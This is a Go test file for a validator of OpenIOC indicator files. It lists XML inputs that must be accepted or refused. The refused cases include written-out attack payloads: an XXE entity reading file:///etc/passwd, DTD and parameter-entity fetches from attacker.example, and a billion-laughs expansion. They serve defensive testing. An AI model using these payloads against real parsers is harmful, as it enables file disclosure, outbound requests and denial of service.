package task

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
)

func TestOpenIOCThatIsTaken(t *testing.T) {
	deep := strings.Repeat("<a>", maxXMLDepth-1) + strings.Repeat("</a>", maxXMLDepth-1)
	for name, text := range map[string]string{
		"1.0":                         `<ioc xmlns="http://schemas.mandiant.com/2010/ioc" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:x="1" id="X1"/>`,
		"1.1":                         `<OpenIOC xmlns="http://openioc.org/schemas/OpenIOC_1.1" id="X1"/>`,
		"prefixed":                    `<o:ioc xmlns:o="http://schemas.mandiant.com/2010/ioc" id="X1"><o:a o:b="1"/></o:ioc>`,
		"byte order mark":             "\xef\xbb\xbf" + `<?xml version="1.0" encoding="UTF-8"?><ioc id="X1"/>`,
		"US-ASCII":                    `<?xml version='1.0' encoding='us-ascii'?><ioc id="X1"/>`,
		"no declaration":              `<ioc id="X1"/>`,
		"blanks around":               "<?xml version=\"1.0\"?>\r\n\t<ioc id=\"X1\"/>\n\n",
		"comments and instructions":   `<!-- a --><?style x?><ioc id="X1"><!-- <!DOCTYPE x> --></ioc><!-- b --><?y?>`,
		"the entities that XML has":   `<ioc id="X1">&lt;&amp;&gt;&quot;&apos;&#1087;&#x1f600;</ioc>`,
		"CDATA":                       `<ioc id="X1"><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>&a;]]></ioc>`,
		"Cyrillic":                    `<ioc id="X1" имя="я"><описание>вредоносный файл 😀</описание></ioc>`,
		"as deep as is taken":         `<ioc id="X1">` + deep + `</ioc>`,
		"xml:lang":                    `<ioc id="X1" xml:lang="ru"/>`,
		"same name, another space":    `<ioc id="X1" xmlns:a="u:a" xmlns:b="u:b" a:x="1" b:x="2" x="3"/>`,
		"prefix declared again":       `<ioc id="X1" xmlns:a="u:a"><b xmlns:a="u:b" a:c="1"/><b a:c="1"/></ioc>`,
		"blanks in the id":            "<ioc id=\" x1\t\"/>",
		"an id in another name space": `<ioc xmlns:a="u:a" a:id="other" id="X1"/>`,
	} {
		id, err := checkXML([]byte(text))
		assert.NoError(t, err, name)
		assert.Equal(t, "x1", id, name)
	}
}

func TestOpenIOCThatIsRefused(t *testing.T) {
	const (
		notXML   = "is not well-formed XML in UTF-8"
		doctype  = "declares a document type, which is not taken"
		encoding = "is declared to be in an encoding other than UTF-8 and US-ASCII"
		noIOC    = "is XML, but no OpenIOC: its outermost element is neither ioc nor OpenIOC"
		noID     = "has no id; the ids of the files must be unique"
		deep     = "is nested deeper than 256 elements"
	)
	laughs := `<!DOCTYPE ioc [<!ENTITY a0 "ha">`
	for i := range 20 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	laughs += `]><ioc id="1">&a20;</ioc>`
	var wide strings.Builder
	wide.WriteString("\xff\xfe")
	for _, u := range utf16.Encode([]rune(`<?xml version="1.0" encoding="utf-16"?><ioc id="1"/>`)) {
		wide.WriteByte(byte(u))
		wide.WriteByte(byte(u >> 8))
	}
	for _, c := range []struct{ name, text, want string }{
		{"nothing", "", notXML},
		{"blanks", " \n", notXML},
		{"mark alone", "\xef\xbb\xbf", notXML},
		{"two marks", "\xef\xbb\xbf\xef\xbb\xbf<ioc id=\"1\"/>", notXML},
		{"text", "indicator", notXML},
		{"JSON", `{"ioc":1}`, notXML},
		{"HTML", `<!DOCTYPE html><html></html>`, doctype},
		{"another element", `<stix id="1"/>`, noIOC},
		{"another case", `<IOC id="1"/>`, noIOC},
		{"no id", `<ioc/>`, noID},
		{"empty id", `<ioc id=""/>`, noID},
		{"blank id", "<ioc id=\" \t\"/>", noID},
		{"id of another case", `<ioc ID="1"/>`, noID},
		{"id in a name space alone", `<ioc xmlns:a="u:a" a:id="1"/>`, noID},

		{"document type", `<!DOCTYPE ioc><ioc id="1"/>`, doctype},
		{"internal entity", `<!DOCTYPE ioc [<!ENTITY a "b">]><ioc id="1">&a;</ioc>`, doctype},
		{"external entity", `<!DOCTYPE ioc [<!ENTITY a SYSTEM "file:///etc/passwd">]><ioc id="1">&a;</ioc>`, doctype},
		{"external document type", `<!DOCTYPE ioc SYSTEM "http://attacker.example/a.dtd"><ioc id="1"/>`, doctype},
		{"parameter entity", `<!DOCTYPE ioc [<!ENTITY % a SYSTEM "http://attacker.example/a.dtd"> %a;]><ioc id="1"/>`, doctype},
		{"billion laughs", laughs, doctype},
		{"document type after the element", `<ioc id="1"/><!DOCTYPE ioc>`, doctype},
		{"document type inside", `<ioc id="1"><!DOCTYPE ioc></ioc>`, doctype},
		{"entity declaration alone", `<!ENTITY a "b"><ioc id="1"/>`, doctype},
		{"entity that nobody declared", `<ioc id="1">&a;</ioc>`, notXML},
		{"entity of HTML", `<ioc id="1">&nbsp;</ioc>`, notXML},
		{"entity in an attribute", `<ioc id="&a;"/>`, notXML},
		{"character that XML has not", `<ioc id="1">&#0;</ioc>`, notXML},

		{"UTF-16", wide.String(), notXML},
		{"declared UTF-16", `<?xml version="1.0" encoding="utf-16"?><ioc id="1"/>`, encoding},
		{"windows-1251", "<?xml version=\"1.0\" encoding=\"windows-1251\"?><ioc id=\"1\">\xef\xf0</ioc>", encoding},
		{"ISO 8859-1", `<?xml version="1.0" encoding="iso-8859-1"?><ioc id="1"/>`, encoding},
		{"UTF-7", `<?xml version="1.0" encoding="utf-7"?>+ADw-ioc/>`, encoding},
		{"US-ASCII that is none", `<?xml version="1.0" encoding="us-ascii"?><ioc id="1">я</ioc>`, encoding},
		{"bytes that are no UTF-8", "<ioc id=\"1\">\xff</ioc>", notXML},
		{"NUL", "<ioc id=\"1\">\x00</ioc>", notXML},
		{"control character", "<ioc id=\"1\">\x1b</ioc>", notXML},
		{"XML 1.1", `<?xml version="1.1"?><ioc id="1"/>`, notXML},

		{"cut off", `<ioc id="1">`, notXML},
		{"wrong end", `<ioc id="1"></OpenIOC>`, notXML},
		{"end without beginning", `</ioc>`, notXML},
		{"one end too many", `<ioc id="1"/></ioc>`, notXML},
		{"crossed", `<ioc id="1"><a><b></a></b></ioc>`, notXML},
		{"two outermost elements", `<ioc id="1"/><ioc id="2"/>`, notXML},
		{"another beside it", `<ioc id="1"/><x/>`, notXML},
		{"text before", `x<ioc id="1"/>`, notXML},
		{"text after", `<ioc id="1"/>x`, notXML},
		{"hard blank after", "<ioc id=\"1\"/>\u00a0", notXML},
		{"CDATA beside it", `<ioc id="1"/><![CDATA[x]]>`, notXML},
		{"declaration after a blank", ` <?xml version="1.0"?><ioc id="1"/>`, notXML},
		{"declaration twice", `<?xml version="1.0"?><?xml version="1.0"?><ioc id="1"/>`, notXML},
		{"declaration inside", `<ioc id="1"><?xml version="1.0"?></ioc>`, notXML},
		{"attribute twice", `<ioc id="1" id="2"/>`, notXML},
		{"attribute twice among many", `<ioc id="1" a="" b="" c="" d="" e="" f="" g="" h="" a=""/>`, notXML},
		{"attribute twice by two prefixes", `<ioc id="1" xmlns:a="u:a" xmlns:b="u:a" a:x="" b:x=""/>`, notXML},
		{"attribute without quotes", `<ioc id=1/>`, notXML},
		{"attribute without value", `<ioc id="1" a/>`, notXML},
		{"prefix that nobody declared", `<o:ioc id="1"/>`, notXML},
		{"prefix of an attribute", `<ioc id="1" xsi:schemaLocation="x"/>`, notXML},
		{"prefix that was declared elsewhere", `<ioc id="1"><a xmlns:p="u:p"/><p:b/></ioc>`, notXML},
		{"prefix that names its space, elsewhere", `<ioc id="1"><a xmlns:p="p"/><p:b/></ioc>`, notXML},
		{"comment with two hyphens", `<ioc id="1"><!-- a -- b --></ioc>`, notXML},
		{"bare ampersand", `<ioc id="1">a & b</ioc>`, notXML},
		{"end of CDATA in text", `<ioc id="1">]]></ioc>`, notXML},
		{"too deep", `<ioc id="1">` + strings.Repeat("<a>", maxXMLDepth) + strings.Repeat("</a>", maxXMLDepth) + `</ioc>`, deep},
		{"deep without end", `<ioc id="1">` + strings.Repeat("<a>", 100000), deep},
	} {
		t.Run(c.name, func(t *testing.T) {
			id, err := checkXML([]byte(c.text))
			assert.EqualError(t, err, c.want)
			assert.Empty(t, id)
		})
	}
}
